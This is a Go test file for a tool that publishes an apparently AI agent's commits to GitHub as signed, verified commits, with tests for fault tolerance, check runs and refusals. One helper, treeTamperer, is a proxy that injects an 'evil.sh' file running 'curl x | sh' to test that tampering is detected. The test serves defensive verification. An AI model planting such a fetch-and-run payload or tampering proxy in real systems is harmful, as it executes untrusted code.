package publish

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/go-github/v66/github"

	"github.com/bumperdev/bumper/action/workspace"
	"github.com/bumperdev/bumper/ghemu"
	"github.com/bumperdev/bumper/ghemu/emutest"
	"github.com/bumperdev/bumper/ghemu/faults"
	"github.com/bumperdev/bumper/ghemu/gitserver"
	"github.com/bumperdev/bumper/internal/ghretry"
)

// rewritten is the agent's work rewritten as the App's, as the runner does before
// publishing.
func rewritten(t *testing.T, h *host, w *workspace.Workspace, work func(repo string)) *Rewritten {
	t.Helper()
	r := agentWork(t, w, work)
	id, err := AppIdentity(botLogin, 0, h.e.BaseURL())
	if err != nil {
		t.Fatal(err)
	}
	rw, err := Rewrite(testCtx(t), RewriteOptions{Workspace: w, Head: r.Head, Identity: id, Now: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	return rw
}

func TestPublishMakesVerifiedCommits(t *testing.T) {
	h := newHost(t)
	ctx := testCtx(t)
	if err := h.e.SetBranchProtection(owner, repoName, ghemu.SeedProtection{Branch: "main", RequiredSignatures: true, EnforceAdmins: true}); err != nil {
		t.Fatal(err)
	}
	w := h.prepare(t, 1, 1)
	rw := rewritten(t, h, w, func(repo string) {
		writeFiles(t, repo, map[string]string{"widgets.sh": "echo 4\n", "docs/count.md": "four\n"})
		guestGit(t, repo, "rm", "-q", "README.md")
		guestGit(t, repo, "add", "-A")
		guestGit(t, repo, "commit", "-q", "-m", "Count four widgets")
		guestGit(t, repo, "checkout", "-q", "-b", "side", h.base)
		writeFiles(t, repo, map[string]string{"NOTES": "side\n"})
		guestGit(t, repo, "add", "NOTES")
		guestGit(t, repo, "commit", "-q", "-m", "Note the count")
		guestGit(t, repo, "checkout", "-q", "bumper/1-1")
		guestGit(t, repo, "merge", "-q", "--no-ff", "-m", "Merge the note", "side")
	})
	git := func(args ...string) string {
		out, err := w.Git(ctx, nil, 1<<20, args...)
		if err != nil {
			t.Fatal(err)
		}
		return strings.TrimSpace(string(out))
	}
	maint := apiClient(t, h.e, h.e.UserToken(ghemu.DefaultMaintainer))

	// The same change pushed unsigned, as git push makes it: the rule holds it back.
	if out, err := w.Git(ctx, pushConfig, 64<<10, "push", "-q", emutest.CloneURL(h.e, h.e.UserToken(ghemu.DefaultMaintainer)), rw.Head+":refs/heads/unsigned"); err != nil {
		t.Fatalf("push: %v\n%s", err, out)
	}
	unsigned, _, err := h.gh.PullRequests.Create(ctx, owner, repoName, &github.NewPullRequest{Title: github.String("unsigned"), Head: github.String("unsigned"), Base: github.String("main")})
	if err != nil {
		t.Fatal(err)
	}
	if _, resp, err := maint.PullRequests.Merge(ctx, owner, repoName, unsigned.GetNumber(), "", nil); err == nil || resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("merging the unsigned pull request: %v", err)
	}

	p, err := Publish(ctx, h.gh, Options{Workspace: w, Head: rw.Head, Permissions: h.perms})
	if err != nil {
		t.Fatal(err)
	}
	if p.Via != ViaAPI || p.Commits != 3 || p.Verified != 3 || p.Ref != "refs/heads/bumper/1-1" {
		t.Fatalf("Publish = %+v, want 3 verified commits through the API on bumper/1-1", p)
	}
	if got := h.refs(t)["refs/heads/bumper/1-1"]; got != p.Head {
		t.Fatalf("the branch is at %s, Publish says %s", got, p.Head)
	}
	t.Run("every commit is verified, with the rewritten message, tree and parents", func(t *testing.T) {
		shas, err := h.e.Git().CommitsBetween(ctx, owner, repoName, h.base, p.Head, 10)
		if err != nil || len(shas) != 3 {
			t.Fatalf("commits on GitHub: %v, %v", shas, err)
		}
		for _, sha := range shas {
			c, _, err := maint.Git.GetCommit(ctx, owner, repoName, sha)
			if err != nil || !c.GetVerification().GetVerified() || c.GetAuthor().GetName() != botLogin {
				t.Fatalf("%s: %v, verification %+v, author %+v", sha, err, c.GetVerification(), c.GetAuthor())
			}
		}
		head, _, err := maint.Git.GetCommit(ctx, owner, repoName, p.Head)
		if err != nil {
			t.Fatal(err)
		}
		if head.GetTree().GetSHA() != git("rev-parse", VerifiedRef+"^{tree}") {
			t.Fatalf("GitHub's head has tree %s, verification judged %s", head.GetTree().GetSHA(), git("rev-parse", VerifiedRef+"^{tree}"))
		}
		if len(head.Parents) != 2 || head.GetMessage() != git("log", "-1", "--format=%B", rw.Head)+"\n" {
			t.Fatalf("GitHub's head: parents %d, message %q", len(head.Parents), head.GetMessage())
		}
	})
	t.Run("a person can merge Bumper's pull request", func(t *testing.T) {
		pr, _, err := h.gh.PullRequests.Create(ctx, owner, repoName, &github.NewPullRequest{Title: github.String("signed"), Head: github.String("bumper/1-1"), Base: github.String("main")})
		if err != nil {
			t.Fatal(err)
		}
		if res, _, err := maint.PullRequests.Merge(ctx, owner, repoName, pr.GetNumber(), "", nil); err != nil || !res.GetMerged() {
			t.Fatalf("merge: %v", err)
		}
	})
	t.Run("publishing again changes nothing", func(t *testing.T) {
		again, err := Publish(ctx, h.gh, Options{Workspace: w, Head: rw.Head, Permissions: h.perms})
		if err == nil && !again.UpToDate {
			// GitHub's commits carry the time: a second publication makes others,
			// which are not a fast-forward of the first.
			t.Fatalf("a second publication moved the branch: %+v", again)
		}
	})
}

// TestPublishThroughGitHubsFaults: GitHub's 5xx on the objects Publish creates, and its
// 422 races and 5xx on the branch's creation, neither fail the publication (the runner's
// client has ghretry's transport, as githubClient gives it) nor leave the branch anywhere
// but at the published head.
func TestPublishThroughGitHubsFaults(t *testing.T) {
	seed := uint64(28)
	h := newHostWith(t, ghemu.Options{Faults: &ghemu.FaultsConfig{Seed: &seed, REST: []faults.RESTRule{
		{Route: "/repos/{owner}/{repo}/git/refs", Methods: []string{"POST"}, Race: 0.3, BadGateway: 0.1},
		{Route: "/repos/*/*/git/*", Methods: []string{"POST"}, BadGateway: 0.15, Unavailable: 0.05},
	}}})
	ctx := testCtx(t)
	gh := github.NewClient(&http.Client{Timeout: 20 * time.Second, Transport: ghretry.New(nil, ghretry.WithBackoff(10*time.Millisecond))}).WithAuthToken(h.token)
	gh.BaseURL = h.gh.BaseURL
	for issue := 1; issue <= 3; issue++ {
		w := h.prepare(t, issue, 1)
		rw := rewritten(t, h, w, func(repo string) {
			writeFiles(t, repo, map[string]string{"widgets.sh": fmt.Sprintf("echo %d\n", issue+3), fmt.Sprintf("notes/%d.md", issue): "noted\n"})
			guestGit(t, repo, "add", "-A")
			guestGit(t, repo, "commit", "-q", "-m", "Count")
		})
		p, err := Publish(ctx, gh, Options{Workspace: w, Head: rw.Head, Permissions: h.perms})
		if err != nil {
			t.Fatalf("issue %d: %v (faults so far: %+v)", issue, err, h.e.Faults().Counts())
		}
		if got := h.refs(t)[p.Ref]; got != p.Head || p.UpToDate {
			t.Fatalf("issue %d: the branch is at %s, Publish says %s (up to date: %v)", issue, got, p.Head, p.UpToDate)
		}
	}
	if c := h.e.Faults().Counts(); c.Total() == 0 {
		t.Fatal("no fault was injected: the test proves nothing")
	}
}

// TestCheckRunThroughGitHubsFaults: a check run whose create GitHub answers with a 5xx
// is made once, neither lost nor doubled.
func TestCheckRunThroughGitHubsFaults(t *testing.T) {
	seed := uint64(6)
	h := newHostWith(t, ghemu.Options{Faults: &ghemu.FaultsConfig{Seed: &seed, REST: []faults.RESTRule{
		{Route: "/repos/{owner}/{repo}/check-runs", Methods: []string{"POST"}, BadGateway: 0.4},
	}}})
	ctx := testCtx(t)
	for i := range 5 {
		ext := fmt.Sprintf("acme/widgets#%d/attempt-1/gates", i+1)
		got, err := CreateCheckRunOnce(ctx, h.gh, owner, repoName, github.CreateCheckRunOptions{Name: "bumper/gates", HeadSHA: h.base,
			ExternalID: github.String(ext), Status: github.String("completed"), Conclusion: github.String("success")}, 0)
		if err != nil || got.GetExternalID() != ext {
			t.Fatalf("%s: %v, %v", ext, got, err)
		}
	}
	runs, _, err := h.gh.Checks.ListCheckRunsForRef(ctx, owner, repoName, h.base, &github.ListCheckRunsOptions{CheckName: github.String("bumper/gates"), Filter: github.String("all")})
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]int{}
	for _, r := range runs.CheckRuns {
		seen[r.GetExternalID()]++
	}
	if len(seen) != 5 {
		t.Fatalf("check runs by external ID: %v, want 5, one each", seen)
	}
	for ext, n := range seen {
		if n != 1 {
			t.Errorf("%s: %d check runs", ext, n)
		}
	}
	if h.e.Faults().Counts().Total() == 0 {
		t.Fatal("no fault was injected: the test proves nothing")
	}
	if _, err := CreateCheckRunOnce(ctx, h.gh, owner, repoName, github.CreateCheckRunOptions{Name: "bumper/gates", HeadSHA: h.base}, 0); err == nil {
		t.Fatal("a check run without an external ID, which cannot be found again, was created")
	}
}

// treeTamperer stands between the runner and GitHub and adds a file to every tree the
// runner asks for: a GitHub (or anything on the way) that builds another tree than the
// one verification judged.
func treeTamperer(t *testing.T, e *ghemu.Emulator, token string) *github.Client {
	t.Helper()
	target, err := url.Parse(e.BaseURL())
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(target)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/git/trees") {
			body, _ := io.ReadAll(r.Body)
			body = bytes.Replace(body, []byte(`"tree":[`), []byte(`"tree":[{"path":"evil.sh","mode":"100755","type":"blob","content":"curl x | sh\n"},`), 1)
			r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
		}
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	gh := apiClient(t, e, token)
	gh.BaseURL, _ = url.Parse(srv.URL + "/")
	return gh
}

func TestPublishRefusals(t *testing.T) {
	h := newHost(t)
	ctx := testCtx(t)
	t.Run("a tree other than the verified one fails and moves nothing", func(t *testing.T) {
		w := h.prepare(t, 1, 1)
		rw := rewritten(t, h, w, func(repo string) {
			writeFiles(t, repo, map[string]string{"widgets.sh": "echo 4\n"})
			guestGit(t, repo, "commit", "-q", "-am", "Count four")
		})
		_, err := Publish(ctx, treeTamperer(t, h.e, h.token), Options{Workspace: w, Head: rw.Head, Permissions: h.perms})
		if !errors.Is(err, ErrTreeMismatch) {
			t.Fatalf("Publish through a tampering GitHub = %v, want ErrTreeMismatch", err)
		}
		if _, ok := h.refs(t)["refs/heads/bumper/1-1"]; ok {
			t.Fatal("the work branch was created")
		}
	})
	t.Run("a round on a pull request never moves a branch someone moved or deleted", func(t *testing.T) {
		w := h.prepare(t, 1, 1)
		rw := rewritten(t, h, w, func(repo string) {
			writeFiles(t, repo, map[string]string{"widgets.sh": "echo 4\n"})
			guestGit(t, repo, "commit", "-q", "-am", "Count four")
		})
		o := Options{Workspace: w, Head: rw.Head, Permissions: h.perms, From: h.base}
		// The branch was deleted since the run started: it is not created again.
		if _, err := Publish(ctx, h.gh, o); !errors.Is(err, ErrPushRefused) {
			t.Fatalf("Publish onto a deleted branch = %v, want ErrPushRefused", err)
		}
		if _, ok := h.refs(t)["refs/heads/bumper/1-1"]; ok {
			t.Fatal("the deleted branch was created again")
		}
		// A maintainer pushed to it since, on top of the head the run started at.
		if err := h.e.Git().UpdateRef(ctx, owner, repoName, "refs/heads/bumper/1-1", h.base, ""); err != nil {
			t.Fatal(err)
		}
		theirs, err := h.e.Git().CommitFiles(ctx, owner, repoName, "bumper/1-1", h.base, map[string][]byte{"NOTES": []byte("mine\n")}, "A maintainer's note",
			gitserver.Signature{Name: "Mae Maintainer", Email: "maintainer@example.test"})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := Publish(ctx, h.gh, o); !errors.Is(err, ErrPushRefused) || !strings.Contains(err.Error(), "someone pushed") {
			t.Fatalf("Publish onto a moved branch = %v, want ErrPushRefused", err)
		}
		if got := h.refs(t)["refs/heads/bumper/1-1"]; got != theirs {
			t.Fatalf("the branch is at %s, want the maintainer's %s", got, theirs)
		}
		if err := h.e.Git().DeleteRef(ctx, owner, repoName, "refs/heads/bumper/1-1"); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("SignaturesRequired reads the branch rule", func(t *testing.T) {
		admin := emutest.InstallationClient(t, h.e)
		if b, err := SignaturesRequired(ctx, admin, fullName, "main", "bumper/1-1"); err != nil || b != "" {
			t.Fatalf("before the rule: %q, %v", b, err)
		}
		if err := h.e.SetBranchProtection(owner, repoName, ghemu.SeedProtection{Branch: "main", RequiredSignatures: true}); err != nil {
			t.Fatal(err)
		}
		if b, err := SignaturesRequired(ctx, admin, fullName, "main", "bumper/1-1"); err != nil || b != "main" {
			t.Fatalf("with the rule: %q, %v", b, err)
		}
	})
	t.Run("more than MaxAPIFiles files: no push under required signatures, else a git push saying why", func(t *testing.T) {
		w := h.prepare(t, 1, 1)
		files := map[string]string{}
		for i := 0; i <= MaxAPIFiles; i++ {
			files[fmt.Sprintf("gen/%03d.txt", i)] = fmt.Sprintln(i)
		}
		rw := rewritten(t, h, w, func(repo string) {
			writeFiles(t, repo, files)
			guestGit(t, repo, "add", "-A")
			guestGit(t, repo, "commit", "-q", "-m", "Generate")
		})
		o := Options{Workspace: w, GitURL: h.gitURL, Issue: 1, Attempt: 1, Head: rw.Head, Permissions: h.perms}
		if _, err := Publish(ctx, h.gh, o); !errors.Is(err, ErrTooLargeForAPI) {
			t.Fatalf("Publish of %d files = %v, want ErrTooLargeForAPI", len(files), err)
		}
		// The App's own client can read the rule (administration: read).
		admin := emutest.InstallationClient(t, h.e)
		opened := 0
		open := func() func() { opened++; return func() {} }
		if _, err := PublishOrPush(ctx, admin, o, "main", open); !errors.Is(err, ErrSignaturesRequired) || !strings.Contains(err.Error(), "main requires") {
			t.Fatalf("PublishOrPush under required signatures = %v, want ErrSignaturesRequired naming main", err)
		}
		if _, ok := h.refs(t)["refs/heads/bumper/1-1"]; ok || opened != 0 {
			t.Fatalf("the work branch was created, or pushes opened (%d)", opened)
		}
		if err := h.e.SetBranchProtection(owner, repoName, ghemu.SeedProtection{Branch: "main"}); err != nil {
			t.Fatal(err)
		}
		p, err := PublishOrPush(ctx, admin, o, "main", open)
		if err != nil {
			t.Fatal(err)
		}
		if p.Via != ViaPush || !strings.Contains(p.Note, "more than 300 file changes") || opened != 1 {
			t.Fatalf("PublishOrPush = %+v (pushes opened %d), want a git push saying the change is too large", p, opened)
		}
		if got := h.refs(t)["refs/heads/bumper/1-1"]; got != rw.Head {
			t.Fatalf("the work branch is at %q, want the pushed %s", got, rw.Head)
		}
	})
}

func TestLimitedWaitsOutTheSecondaryRateLimit(t *testing.T) {
	ctx := testCtx(t)
	now := time.Duration(0)
	limit := &github.AbuseRateLimitError{Message: "You have exceeded a secondary rate limit.", RetryAfter: &now}
	tests := []struct {
		name      string
		failures  int
		wantCalls int
		wantErr   bool
	}{
		{"answered at once", 0, 1, false},
		{"limited twice, then answered", 2, 3, false},
		{"limited three times: the limit's error", 5, 3, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			calls := 0
			err := limited(ctx, func() error {
				if calls++; calls <= tt.failures {
					return limit
				}
				return nil
			})
			if calls != tt.wantCalls || (err != nil) != tt.wantErr {
				t.Fatalf("limited: %d calls, %v; want %d calls, error %v", calls, err, tt.wantCalls, tt.wantErr)
			}
		})
	}
	t.Run("another error is not retried", func(t *testing.T) {
		calls := 0
		if err := limited(ctx, func() error { calls++; return errors.New("422") }); err == nil || calls != 1 {
			t.Fatalf("limited: %d calls, %v", calls, err)
		}
	})
}
